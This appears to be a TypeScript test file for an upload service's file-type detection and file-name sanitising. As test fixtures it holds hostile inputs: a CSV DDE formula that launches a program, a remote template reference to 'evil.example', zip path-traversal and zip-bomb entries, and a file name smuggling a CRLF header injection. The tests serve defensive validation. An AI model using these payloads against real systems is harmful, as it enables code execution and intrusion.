import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { shownFileName } from './file-names.rules.ts';
import { fileTypeOf } from './file-types.service.ts';
import { officeFile } from './uploads.factory.ts';

const word = 'wordprocessingml.document';
const docx = `application/vnd.openxmlformats-officedocument.${word}`;
const typeOf = (content: string | Uint8Array) => fileTypeOf(Buffer.from(content as string));
const withPart = (name: string, content = 'x') => officeFile(word, { [name]: strToU8(content) });
const related = (type: string) =>
  withPart(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="1" Type="http://x/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
  );

describe('the type of a file', () => {
  it.each([
    ['%PDF-1.7\nx\n%%EOF', 'application/pdf'],
    [officeFile(word), docx],
    [officeFile('spreadsheetml.sheet'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['Name,Score\nAna,120\nBen,-5', 'text/csv'],
    ['﻿Name;Größe\r\nÅsa;1', 'text/csv'],
    [Buffer.from('Name;Gr\xf6\xdfe\r\nA;1', 'latin1'), 'text/csv'],
    [related('hyperlink'), docx],
  ])('is what it holds (%#)', (content, type) => {
    expect(typeOf(content)).toBe(type);
  });

  it.each([
    ['a program', 'MZ\x90\x00,\x03'],
    ['a page', '  <!doctype html><script>alert(1)</script>,'],
    ['a drawing that runs scripts', '<svg onload="alert(1)">,</svg>'],
    ['a shell script', '#!/bin/sh\necho a,b'],
    ['a rich text', '{\\rtf1 a,b}'],
    ['plain words', 'just words\nand more'],
    ['nothing', ''],
    ['a PDF with a password', '%PDF-1.7\n/Encrypt 1 0 R\n%%EOF'],
    ['a PDF cut short', '%PDF-1.7\nhalf'],
    ['a zip that is no document', Buffer.from('PK\x03\x04 and nothing', 'latin1')],
    [
      'a slide deck',
      officeFile(
        word,
        {},
        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
      ),
    ],
  ])('is none for %s', (_, content) => {
    expect(typeOf(content)).toBeNull();
  });

  it.each([
    ['macros', withPart('word/vbaProject.bin')],
    [
      'a macro-enabled main part',
      officeFile(word, {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    ['controls', withPart('word/activeX/activeX1.xml')],
    ['an embedded program', withPart('word/embeddings/oleObject1.bin')],
    ['a name that leaves its folder', withPart('../../evil.txt')],
    ['a template from elsewhere', related('attachedTemplate')],
    ['a formula that starts a program', 'a,b\n1,"=cmd|\' /C calc\'!A0"'],
  ])('is unsafe with %s', (_, content) => {
    expect(typeOf(content)).toBe('unsafe');
  });

  it('is unsafe when it unpacks to far more than it is', () => {
    const bomb = Buffer.from(withPart('word/media/a.bmp'));
    const entry = bomb.lastIndexOf('PK\x01\x02');
    bomb.writeUInt32LE(310 * 1_048_576, entry + 24);
    expect(typeOf(bomb)).toBe('unsafe');
  });
});

describe('the name of a file', () => {
  it.each([
    ['Heats.xlsx', 'Heats.xlsx.csv'],
    ['C:\\Users\\ana\\Plan für Samstag.PDF', 'Plan für Samstag.PDF.csv'],
    ['../../etc/passwd', 'passwd.csv'],
    ['scores.csv', 'scores.csv'],
    ['\u202Egnp.exe"\r\nSet-Cookie: a', 'gnp.exe Set-Cookie a.csv'],
    ['', 'File.csv'],
  ])('%j has the ending of what it is', (given, shown) => {
    expect(shownFileName(given, 'text/csv')).toBe(shown);
  });

  it('is short', () => {
    expect([...shownFileName(`${'🏋'.repeat(300)}.pdf`, 'application/pdf')]).toHaveLength(120);
  });
});
